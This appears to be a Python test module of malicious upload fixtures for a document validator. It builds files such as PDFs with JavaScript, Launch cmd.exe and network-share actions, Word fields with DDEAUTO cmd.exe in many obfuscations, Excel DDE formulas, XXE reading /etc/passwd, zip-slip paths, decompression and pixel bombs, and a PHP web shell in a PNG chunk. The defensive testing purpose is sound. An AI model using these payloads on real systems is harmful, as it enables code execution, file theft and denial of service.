# ruff: noqa: E501 -- one hostile file a line reads better
"""Files that must not get in as they are: each with the name it comes under.

Every entry is refused, except those in PICTURES, which may also be taken after being made anew.
"""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.unit.evidence import papers
from tests.unit.evidence.papers import OFFICE, archive, box, docx_parts, jpg, mp4, pdf, png, xlsx_parts

SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
Make = Callable[[], bytes]


def _writer() -> PdfWriter:
    writer = PdfWriter()
    writer.append(PdfReader(io.BytesIO(pdf())))
    return writer


def _saved(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_script_of_library() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/JavaScript"): DictionaryObject(
                {
                    NameObject("/Names"): ArrayObject(
                        [
                            TextStringObject("a"),
                            DictionaryObject(
                                {
                                    NameObject("/S"): NameObject("/JavaScript"),
                                    NameObject("/JS"): TextStringObject("app.alert(1)"),
                                }
                            ),
                        ]
                    )
                }
            )
        }
    )
    return _saved(writer)


def pdf_with_attachment_of_library() -> bytes:
    writer = _writer()
    writer.add_attachment("daftar.exe", b"MZ")
    return _saved(writer)


def pdf_encrypted() -> bytes:
    writer = _writer()
    writer.encrypt("rahasia", algorithm="RC4-128")
    return _saved(writer)


def pdf_with_compressed_script() -> bytes:
    """The script stands in a compressed object stream, where no search of the raw bytes finds it."""
    inside = b"5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    packed = zlib.compress(inside)
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    head = b"%PDF-1.7\n"
    bodies = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
        6: stream,
    }
    out = bytearray(head)
    places = {}
    for number, body in bodies.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    rows = [
        (0, 0, 65535),
        *((1, places[number], 0) for number in (1, 2, 3)),
        (0, 0, 0),
        (2, 6, 0),
        (1, places[6], 0),
    ]
    rows.append((1, start, 0))
    table = b"".join(struct.pack(">BLH", *row) for row in rows)
    out += (
        b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (
            len(table),
            table,
        )
    )
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def pdf_of_nested_arrays() -> bytes:
    return pdf(more={5: b"[" * 60_000 + b"]" * 60_000})


def zip_with(entry: zipfile.ZipInfo, content: bytes = b"x") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in docx_parts().items():
            packed.writestr(name, body)
        packed.writestr(entry, content)
    return out.getvalue()


def symlink_entry() -> bytes:
    entry = zipfile.ZipInfo("word/media/image1.png")
    entry.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zip_with(entry, b"/etc/passwd")


def claims(total: int, size: int) -> bytes:
    """A real document whose end record claims other numbers."""
    content = bytearray(archive(docx_parts()))
    end = content.rfind(b"PK\5\6")
    struct.pack_into("<HHL", content, end + 8, total, total, size)
    return bytes(content)


def docx_of_many_entries() -> bytes:
    """A hundred thousand names, in a directory of 5 MB."""
    entry = b"PK\1\2" + b"\0" * 24 + struct.pack("<H", 8) + b"\0" * 16
    directory = b"".join(entry + b"%08d" % number for number in range(100_000))
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, len(directory), 4, 0)
    return b"PK\3\4" + directory + end


def docx_bomb() -> bytes:
    return archive(docx_parts(more={"word/media/image1.png": b"\0" * 150_000_000}))


def docx_nominal_ten_gigabytes() -> bytes:
    """Entries that claim a gigabyte each in the directory."""
    content = bytearray(archive(docx_parts(more={f"word/media/i{number}.png": b"x" for number in range(10)})))
    place = content.find(b"PK\1\2")
    while place >= 0:
        struct.pack_into("<L", content, place + 24, 1_000_000_000)
        place = content.find(b"PK\1\2", place + 4)
    return bytes(content)


def docx_overlapping() -> bytes:
    """Two entries of the directory that share the same bytes, as bombs without nesting do."""
    content = bytearray(archive(docx_parts(more={"word/a.xml": b"<a/>", "word/b.xml": b"<b/>"})))
    last = content.rfind(b"PK\1\2")
    before = content.rfind(b"PK\1\2", 0, last)
    content[last + 42 : last + 46] = content[before + 42 : before + 46]
    return bytes(content)


def docx_encrypted() -> bytes:
    content = bytearray(archive(docx_parts()))
    place = content.find(b"PK\1\2")
    content[place + 8] |= 1
    return bytes(content)


def docx_duplicate_names() -> bytes:
    entry = zipfile.ZipInfo("WORD/document.xml")
    return zip_with(entry, b"<w:document/>")


def nested_deep() -> bytes:
    inner = archive(docx_parts(more={"word/embeddings/b.xlsx": papers.xlsx()}))
    return archive(docx_parts(more={"word/embeddings/a.docx": inner}))


def docx_with(link: tuple[str, str, str]) -> bytes:
    return archive(docx_parts(links=(link,)))


def docx_part(name: str, content: bytes | str = b"x") -> bytes:
    return archive(docx_parts(more={name: content}))


def png_flood() -> bytes:
    """A few hundred bytes that claim a picture of 20,000 by 20,000 pixels."""
    head = papers.chunk(b"IHDR", struct.pack(">LLBBBBB", 20_000, 20_000, 8, 2, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n"
        + head
        + papers.chunk(b"IDAT", zlib.compress(b"\0" * 60_000))
        + papers.chunk(b"IEND", b"")
    )


def jpg_flood() -> bytes:
    content = bytearray(jpg())
    place = content.find(b"\xff\xc0")
    struct.pack_into(">HH", content, place + 5, 65_000, 65_000)
    return bytes(content)


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (4, 4)).save(out, "GIF")
    return out.getvalue()


def text_bomb_png() -> bytes:
    content = png()
    bomb = papers.chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 50_000_000, 9))
    return content[:33] + bomb + content[33:]


def linked(action: bytes) -> bytes:
    """A PDF whose page has a link with this action."""
    return pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A %s >>]" % action)


def field(instruction: str) -> bytes:
    """A Word document with this text as the instruction of a field."""
    return archive(docx_parts(f"<w:p><w:r><w:instrText>{instruction}</w:instrText></w:r></w:p>"))


def of_runs(*runs: str) -> bytes:
    """A Word document with a complex field of these runs."""
    body = "".join(f"<w:r>{run}</w:r>" for run in runs)
    return archive(docx_parts(f"<w:p>{body}</w:p>"))


BEGIN, END = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'


def formula(text: str) -> bytes:
    """A workbook with this formula."""
    sheet = f"<worksheet><sheetData><row><c><f>{text}</f></c></row></sheetData></worksheet>"
    return archive(xlsx_parts(more={"xl/worksheets/sheet2.xml": sheet}))


# fmt: off
REFUSED: dict[str, tuple[str, Make]] = {
    # not what the name says
    "html as pdf": ("surat.pdf", lambda: HTML),
    "svg as png": ("gambar.png", lambda: SVG),
    "program as pdf": ("sk.pdf", lambda: ELF),
    "windows program as docx": ("sk.docx", lambda: b"MZ" + b"\0" * 500),
    "eicar as pdf": ("sk.pdf", lambda: EICAR),
    "png as jpg": ("foto.jpg", png),
    "jpg as png": ("foto.png", jpg),
    "gif as png": ("foto.png", gif),
    "gif with script as png": ("foto.png", lambda: b"GIF89a/*" + SCRIPT + b"*/"),
    "pdf as docx": ("surat.docx", pdf),
    "xlsx as docx": ("surat.docx", papers.xlsx),
    "docx as xlsx": ("surat.xlsx", papers.docx),
    "zip as docx": ("surat.docx", lambda: archive({"a.txt": b"x"})),
    "zip as xlsx": ("surat.xlsx", lambda: archive({"[Content_Types].xml": papers.types()})),
    "mp4 as pdf": ("surat.pdf", mp4),
    "empty": ("surat.pdf", lambda: b""),
    "one byte": ("surat.pdf", lambda: b"%"),
    # names that are not taken, whatever is inside
    "html": ("surat.html", lambda: HTML),
    "htm": ("surat.htm", pdf),
    "xhtml": ("surat.xhtml", pdf),
    "svg": ("logo.svg", lambda: SVG),
    "double extension": ("sk.pdf.exe", pdf),
    "script name": ("sk.php", pdf),
    "macro document": ("sk.docm", papers.docx),
    "macro workbook": ("sk.xlsm", papers.xlsx),
    "no extension": ("surat", pdf),
    "space after the extension": ("surat.pdf .exe", pdf),
    "nul in the extension": ("surat.ph\0p", pdf),
    "reversed by a direction mark": ("sk\u202efdp.exe", pdf),
    "full-width dot": ("surat．pdf", pdf),
    # PDF
    "pdf: text and script only": ("a.pdf", lambda: b"%PDF-1.4\n" + SCRIPT),
    "pdf: script in a comment at the top": ("a.pdf", lambda: pdf().replace(b"\n%\xe2", b"\n%" + SCRIPT + b"\n%\xe2", 1)),
    "pdf: page behind its end": ("a.pdf", lambda: pdf(text=b"x" * 2000) + HTML),
    "pdf: program before its start": ("a.pdf", lambda: ELF + pdf()),
    "pdf: zip behind its end": ("a.pdf", lambda: pdf() + archive({"a.txt": b"x"})),
    "pdf: zip whose comment is the end": ("a.pdf", lambda: pdf()[:-6] + b"PK\5\6" + b"\0" * 16 + struct.pack("<H", 6) + b"%%EOF\n"),
    "pdf: script on opening": ("a.pdf", lambda: pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "pdf: escaped name of a script": ("a.pdf", lambda: pdf(catalog=b"/OpenAction << /S /J#61vaScript /#4aS (x) >>")),
    "pdf: script in the name tree": ("a.pdf", pdf_with_script_of_library),
    "pdf: script in a compressed object": ("a.pdf", pdf_with_compressed_script),
    "pdf: script in an orphan object": ("a.pdf", lambda: pdf(more={9: b"<< /S /JavaScript /JS (x) >>"})),
    "pdf: script as a stream": ("a.pdf", lambda: pdf(catalog=b"/AA << /WC << /S /JavaScript /JS 5 0 R >> >>", more={5: b"<< /Length 1 >>\nstream\nx\nendstream"})),
    "pdf: starts a program": ("a.pdf", lambda: pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "pdf: program behind a link": ("a.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.bat) >> >>]")),
    "pdf: opens a page of the web by itself": ("a.pdf", lambda: pdf(catalog=b"/OpenAction << /S /URI /URI (https://judi.example/) >>")),
    "pdf: web page when a page is shown": ("a.pdf", lambda: pdf(page=b"/AA << /O << /S /URI /URI (https://judi.example/) >> >>")),
    "pdf: script address behind a link": ("a.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]")),
    "pdf: file address behind a link": ("a.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>]")),
    "pdf: second action after a harmless one": ("a.pdf", lambda: pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /Print >> >>")),
    "pdf: sends a form": ("a.pdf", lambda: pdf(more={5: b"<< /S /SubmitForm /F (https://x.example/) >>"})),
    "pdf: XFA form": ("a.pdf", lambda: pdf(catalog=b"/AcroForm << /XFA [] /Fields [] >>")),
    "pdf: file inside": ("a.pdf", pdf_with_attachment_of_library),
    "pdf: file inside, attached to a page": ("a.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (a.exe) >> >>]")),
    "pdf: rich media": ("a.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]")),
    "pdf: leads into another file": ("a.pdf", lambda: pdf(more={5: b"<< /S /GoToR /F (\\\\\\\\host\\\\x.pdf) >>"})),
    "pdf: thread of another file": ("a.pdf", lambda: linked(b"<< /S /Thread /F (\\\\\\\\evil\\\\x.pdf) /D 0 >>")),
    "pdf: link into the network": ("a.pdf", lambda: linked(b"<< /S /URI /URI (\\\\\\\\evil\\\\share) >>")),
    "pdf: link into the network, other slashes": ("a.pdf", lambda: linked(b"<< /S /URI /URI (//evil/share) >>")),
    "pdf: link into the network, mixed slashes": ("a.pdf", lambda: linked(b"<< /S /URI /URI (/\\\\evil/share) >>")),
    "pdf: link into the network behind what is not seen": ("a.pdf", lambda: linked(b"<< /S /URI /URI (\\001 \\\\\\\\evil) >>")),
    "pdf: link to a file, in hexadecimal": ("a.pdf", lambda: linked(b"<< /S /URI /URI <66696c653a2f2f2f657463> >>")),
    "pdf: link to a file, in an object of its own": ("a.pdf", lambda: pdf(page=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI 5 0 R >> >>]", more={5: b"(file:///etc/passwd)"})),
    "pdf: base of links into the network": ("a.pdf", lambda: pdf(catalog=b"/URI << /Base (file://evil/) >>")),
    "pdf: unknown action": ("a.pdf", lambda: linked(b"<< /S /Baru /F (x) >>")),
    "pdf: unknown action that says what it is": ("a.pdf", lambda: pdf(more={5: b"<< /Type /Action /S /Baru >>"})),
    "pdf: action of the next": ("a.pdf", lambda: linked(b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /Baru >>] >>")),
    "pdf: prints behind a link": ("a.pdf", lambda: linked(b"<< /S /Named /N /Print >>")),
    "pdf: hides fields": ("a.pdf", lambda: linked(b"<< /S /Hide /T (a) >>")),
    "pdf: data in another file": ("a.pdf", lambda: pdf(more={5: b"<< /Length 1 /F (\\\\\\\\evil\\\\x) >>\nstream\nx\nendstream"})),
    "pdf: page of another file": ("a.pdf", lambda: pdf(more={5: b"<< /Subtype /Form /Ref << /F (\\\\\\\\evil\\\\x.pdf) /Page 0 >> >>"})),
    "pdf: names a file": ("a.pdf", lambda: pdf(more={5: b"<< /Type /Filespec /F (\\\\\\\\evil\\\\x) >>"})),
    "pdf: zip in its middle": ("a.pdf", lambda: pdf(more={5: b"<< /Length 0 >>\nstream\n%s\nendstream" % archive({"a.txt": b"x"})})),
    "pdf: zip in its comment": ("a.pdf", lambda: pdf().replace(b"\n%\xe2\xe3", b"\n%" + archive({"a.txt": b"x"}) + b"\n%\xe2\xe3", 1)),
    "pdf: other archives": ("a.pdf", lambda: pdf(more={5: b"<< /Length 0 >>\nstream\nRar!\x1a\x07\x01\0\nendstream"})),
    "pdf: a million ends of a zip": ("a.pdf", lambda: pdf(text=b"PK\5\6" * 1_000_000)),
    "pdf: streams without end": ("a.pdf", lambda: pdf()[:-6] + b"stream\n" * 300_000 + b"%%EOF\n"),
    "pdf: locked": ("a.pdf", pdf_encrypted),
    "pdf: truncated": ("a.pdf", lambda: pdf()[:-40]),
    "pdf: half": ("a.pdf", lambda: pdf()[: len(pdf()) // 2]),
    "pdf: without pages": ("a.pdf", lambda: pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0")),
    "pdf: pages in a circle": ("a.pdf", lambda: pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
    "pdf: arrays in arrays": ("a.pdf", pdf_of_nested_arrays),
    # office
    "docx: macros": ("a.docx", lambda: archive(docx_parts(more={"word/vbaProject.bin": b"x"}, defaults={"bin": "application/vnd.ms-office.vbaProject"}))),
    "docx: macros without a type": ("a.docx", lambda: docx_part("word/vbaProject.bin")),
    "docx: type of a macro document": ("a.docx", lambda: archive(docx_parts(main="application/vnd.ms-word.document.macroEnabled.main+xml"))),
    "docx: template from the web": ("a.docx", lambda: docx_with(("attachedTemplate", "https://x.example/t.dotm", "External"))),
    "docx: picture from the web": ("a.docx", lambda: docx_with(("image", "http://x.example/p.png", "External"))),
    "docx: frame": ("a.docx", lambda: docx_with(("frame", "http://x.example/", "External"))),
    "docx: link into the network": ("a.docx", lambda: docx_with(("hyperlink", "file://host/share/a", "External"))),
    "docx: link to a script": ("a.docx", lambda: docx_with(("hyperlink", "javascript:alert(1)", "External"))),
    "docx: link to a diagnostic tool": ("a.docx", lambda: docx_with(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External"))),
    "docx: program inside": ("a.docx", lambda: docx_part("word/embeddings/oleObject1.bin")),
    "docx: executable inside": ("a.docx", lambda: docx_part("word/media/a.exe", ELF)),
    "docx: page inside": ("a.docx", lambda: docx_part("word/a.html", HTML)),
    "docx: page as a part of the text": ("a.docx", lambda: docx_with(("aFChunk", "a.xml", ""))),
    "docx: control": ("a.docx", lambda: docx_part("word/activeX/activeX1.xml", b"<a/>")),
    "docx: field that runs a command": ("a.docx", lambda: archive(docx_parts("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"))),
    "docx: field that fetches a picture": ("a.docx", lambda: archive(docx_parts('<w:fldSimple w:instr="INCLUDEPICTURE &quot;http://x.example/a&quot;"/>'))),
    "docx: field, a letter as a number": ("a.docx", lambda: field("DD&#69;AUTO c:\\\\cmd.exe")),
    "docx: field, a letter as a hexadecimal number": ("a.docx", lambda: field("&#x44;DEAUTO c:\\\\cmd.exe")),
    "docx: field, parted by a comment": ("a.docx", lambda: field("D<!-- -->DEAUTO c:\\\\cmd.exe")),
    "docx: field, parted by an instruction": ("a.docx", lambda: field("D<?mso-x y?>DEAUTO c:\\\\cmd.exe")),
    "docx: field in other quotes": ("a.docx", lambda: archive(docx_parts("<w:fldSimple w:instr='DDEAUTO c:\\\\cmd.exe'/>"))),
    "docx: field that fetches a picture, disguised": ("a.docx", lambda: field("INCLUDE&#80;ICTURE &quot;\\\\\\\\evil\\\\x.png&quot;")),
    "docx: field with another prefix": ("a.docx", lambda: archive(docx_parts(f'<q:instrText xmlns:q="{papers.WORD}">DDEAUTO c:\\\\cmd.exe</q:instrText>'))),
    "docx: field without a prefix": ("a.docx", lambda: archive(docx_parts(f'<instrText xmlns="{papers.WORD}">DDEAUTO cmd</instrText>'))),
    "docx: field of the strict form": ("a.docx", lambda: archive(docx_parts('<s:instrText xmlns:s="http://purl.oclc.org/ooxml/wordprocessingml/main">DDEAUTO cmd</s:instrText>'))),
    "docx: field as character data": ("a.docx", lambda: field("<![CDATA[DDEAUTO c:\\\\cmd.exe]]>")),
    "docx: field, half as character data": ("a.docx", lambda: field("DD<![CDATA[EAUTO cmd]]>")),
    "docx: field of many runs": ("a.docx", lambda: of_runs(BEGIN, *(f"<w:instrText>{letter}</w:instrText>" for letter in "DDEAUTO"), END)),
    "docx: field with another field inside its name": ("a.docx", lambda: of_runs(BEGIN, "<w:instrText>DDE</w:instrText>", BEGIN, "<w:instrText>PAGE</w:instrText>", END, "<w:instrText>AUTO cmd</w:instrText>", END)),
    "docx: field inside a harmless field": ("a.docx", lambda: of_runs(BEGIN, "<w:instrText>IF 1 = 1 </w:instrText>", BEGIN, "<w:instrText>DDE cmd</w:instrText>", END, END)),
    "docx: field that was deleted": ("a.docx", lambda: archive(docx_parts("<w:del><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:del>"))),
    "docx: field in small letters": ("a.docx", lambda: field(" ddeauto cmd")),
    "docx: field in a header": ("a.docx", lambda: archive(docx_parts(more={"word/header1.xml": f'<w:hdr xmlns:w="{papers.WORD}"><w:fldSimple w:instr="DDE cmd"/></w:hdr>'}))),
    "docx: field far into a long part": ("a.docx", lambda: archive(docx_parts("<w:t>" + "x" * 600_000 + "</w:t><w:r><w:instrText>D<!--" + "y" * 300_000 + "-->DE cmd</w:instrText></w:r>"))),
    **{f"docx: field {name}": ("a.docx", lambda name=name: field(f"{name} c:\\\\a.docx")) for name in  # type: ignore[misc]
       ("LINK", "INCLUDE", "INCLUDETEXT", "IMPORT", "DATABASE", "RD", "EMBED", "CONTROL", "HTMLCONTROL", "MACROBUTTON", "DDE", "PRINT", "AUTOTEXT", "GLOSSARY", "UNKNOWN")},
    "docx: link of a field into the network": ("a.docx", lambda: field("HYPERLINK &quot;\\\\\\\\evil\\\\share&quot;")),
    "docx: link of a field to a file": ("a.docx", lambda: field("HYPERLINK &quot;file://evil/share&quot;")),
    "docx: link of a field to a tool": ("a.docx", lambda: field("HYPERLINK ms-msdt:/id")),
    "docx: picture of a drawing from the network": ("a.docx", lambda: archive(docx_parts('<v:imagedata xmlns:v="urn:v" src="&#92;&#92;evil&#92;x.png"/>'))),
    "docx: picture of a drawing from the web": ("a.docx", lambda: archive(docx_parts("<v:fill xmlns:v='urn:v' src='http&#58;//evil/x.png'/>"))),
    "docx: part from elsewhere that calls itself internal": ("a.docx", lambda: docx_with(("image", "http://x.example/p.png", ""))),
    "docx: part from the network that calls itself internal": ("a.docx", lambda: docx_with(("image", "\\\\\\\\evil\\\\p.png", ""))),
    "docx: link with a space before a file address": ("a.docx", lambda: docx_with(("hyperlink", "&#9;file://host/a", "External"))),
    "docx: style sheet from elsewhere": ("a.docx", lambda: docx_part("word/styles.xml", '<?xml-stylesheet href="http://x.example/a.xsl"?><a/>')),
    "docx: drawing with a script": ("a.docx", lambda: docx_part("word/media/a.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>')),
    "docx: drawing with a picture from the web": ("a.docx", lambda: docx_part("word/media/a.svg", '<svg xmlns:x="http://www.w3.org/1999/xlink"><image x:href="http://evil/a"/></svg>')),
    "docx: drawing with a style from the web": ("a.docx", lambda: docx_part("word/media/a.svg", "<svg><style>@im<!-- -->port 'http://evil/a';</style></svg>")),
    "xlsx: formula that runs a command": ("a.xlsx", lambda: formula("cmd|&#39;/c calc&#39;!A0")),
    "xlsx: formula that asks the web": ("a.xlsx", lambda: formula("_xlfn.WEB<!-- -->SERVICE(A1)")),
    "xlsx: formula that shows a picture of the web": ("a.xlsx", lambda: formula("_xlfn.IMAGE(A1)")),
    "xlsx: formula that leads into the network": ("a.xlsx", lambda: formula('HYPERLINK("&#92;&#92;evil&#92;share")')),
    "xlsx: formula of another workbook": ("a.xlsx", lambda: formula("'[C:\\\\a.xlsx]Sheet1'!A1")),
    "xlsx: name that runs a command": ("a.xlsx", lambda: archive(xlsx_parts(more={"xl/a.xml": "<a><definedName>cmd|' /c calc'!A0</definedName></a>"}))),
    "docx: entity bomb": ("a.docx", lambda: docx_part("word/styles.xml", '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>')),
    "docx: entity in UTF-16": ("a.docx", lambda: docx_part("word/styles.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'.encode("utf-16"))),
    "docx: bomb": ("a.docx", docx_bomb),
    "docx: ten gigabytes by its directory": ("a.docx", docx_nominal_ten_gigabytes),
    "docx: a hundred thousand entries": ("a.docx", docx_of_many_entries),
    "docx: claims fewer entries": ("a.docx", lambda: claims(1, 60)),
    "docx: claims a huge directory": ("a.docx", lambda: claims(4, 4_000_000_000)),
    "docx: entries that overlap": ("a.docx", docx_overlapping),
    "docx: locked": ("a.docx", docx_encrypted),
    "docx: two parts of one name": ("a.docx", docx_duplicate_names),
    "docx: step upwards": ("a.docx", lambda: docx_part("../../etc/cron.d/a.xml")),
    "docx: step upwards by backslashes": ("a.docx", lambda: zip_with(zipfile.ZipInfo("word\\..\\..\\a.xml"))),
    "docx: absolute path": ("a.docx", lambda: zip_with(zipfile.ZipInfo("/etc/passwd.xml"))),
    "docx: drive": ("a.docx", lambda: zip_with(zipfile.ZipInfo("C:/a.xml"))),
    "docx: symbolic link": ("a.docx", symlink_entry),
    "docx: document in document in document": ("a.docx", nested_deep),
    "docx: program before its start": ("a.docx", lambda: ELF + papers.docx()),
    "docx: page behind its end": ("a.docx", lambda: papers.docx() + HTML),
    "docx: picture before its start": ("a.docx", lambda: jpg() + papers.docx()),
    "docx: truncated": ("a.docx", lambda: papers.docx()[:-30]),
    "docx: one byte of a part changed": ("a.docx", lambda: papers.docx().replace(b"PK\3\4", b"PK\3\4", 1)[:60] + b"\xff" + papers.docx()[61:]),
    "xlsx: macro sheet": ("a.xlsx", lambda: archive(xlsx_parts(more={"xl/macrosheets/sheet1.xml": b"<a/>"}))),
    "xlsx: workbook of macros": ("a.xlsx", lambda: archive(xlsx_parts(main="application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
    "xlsx: command by DDE": ("a.xlsx", lambda: archive(xlsx_parts(more={"xl/externalLinks/externalLink1.xml": b'<ddeLink ddeService="cmd"/>'}))),
    "xlsx: table of another workbook": ("a.xlsx", lambda: archive(xlsx_parts(more={ "xl/worksheets/_rels/sheet1.xml.rels": papers.relations(("externalLinkPath", "file:///C:/DPA.xlsx", "External")) }))),
    "xlsx: query of the web": ("a.xlsx", lambda: archive(xlsx_parts(more={"xl/connections.xml": b"<connections/>"}))),
    "xlsx: template": ("a.xlsx", lambda: archive(xlsx_parts(main=f"{OFFICE}.spreadsheetml.template.main+xml"))),
    # pictures
    "png: pixel flood": ("a.png", png_flood),
    "jpg: pixel flood": ("a.jpg", jpg_flood),
    "png: text bomb": ("a.png", text_bomb_png),
    "jpg: truncated": ("a.jpg", lambda: jpg()[:-400]),
    "png: truncated": ("a.png", lambda: png()[:-200]),
    "png: only its signature": ("a.png", lambda: b"\x89PNG\r\n\x1a\n"),
    "jpg: only its signature and a script": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + SCRIPT),
    # films
    "mp4: page at its start": ("a.mp4", lambda: box(b"ftyp", b"isom" + HTML) + mp4()),
    "mp4: page hidden in its first box": ("a.mp4", lambda: mp4(more=box(b"free", HTML))),
    "mp4: zip behind its end": ("a.mp4", lambda: mp4() + archive({"a.txt": b"x"})),
    "mp4: zip in its last box": ("a.mp4", lambda: mp4(recording=archive({"a.txt": b"x"}))),
    "mp4: no track": ("a.mp4", lambda: box(b"ftyp", b"isom\0\0\0\0") + box(b"moov") + box(b"mdat", b"x" * 99)),
    "mp4: no recording": ("a.mp4", lambda: mp4()[:-4104]),
    "mp4: truncated": ("a.mp4", lambda: mp4()[:-10]),
    "mp4: boxes without end": ("a.mp4", lambda: mp4(more=box(b"free") * 30_000)),
    "mp4: box longer than the file": ("a.mp4", lambda: mp4() + b"\x7f\xff\xff\xff" + b"free"),
    "mp4: box of no length": ("a.mp4", lambda: mp4() + b"\0\0\0\2free"),
    "mp4: unknown box": ("a.mp4", lambda: mp4(more=box(b"evil", b"x" * 50))),
    "mp4: megabytes that players skip": ("a.mp4", lambda: mp4(more=box(b"uuid", b"x" * 2_000_000))),
    "mp4: a still picture of a telephone": ("a.mp4", lambda: mp4(brand=b"heic")),
    "mp4: film of another kind": ("a.mp4", lambda: mp4(brand=b"qt  ")),
}

PICTURES: dict[str, tuple[str, Make]] = {
    "jpg: zip behind its end": ("a.jpg", lambda: jpg() + archive({"a.txt": b"x"})),
    "jpg: page behind its end": ("a.jpg", lambda: jpg() + HTML),
    "jpg: program behind its end": ("a.jpg", lambda: jpg() + ELF + SCRIPT),
    "jpg: script in its comment": ("a.jpg", lambda: jpg()[:2] + b"\xff\xfe\0\x2a" + SCRIPT[:40] + jpg()[2:]),
    "jpg: script in its notes": ("a.jpg", lambda: jpg(exif=b"Exif\0\0" + SCRIPT)),
    "png: page behind its end": ("a.png", lambda: png() + HTML),
    "png: zip behind its end": ("a.png", lambda: png() + archive({"a.txt": b"x"})),
    "png: php in a text chunk": ("a.png", lambda: (png()[:33] + papers.chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?>" + SCRIPT) + png()[33:])),
    "png: unknown chunk": ("a.png", lambda: png()[:33] + papers.chunk(b"evIl", SCRIPT) + png()[33:]),
}
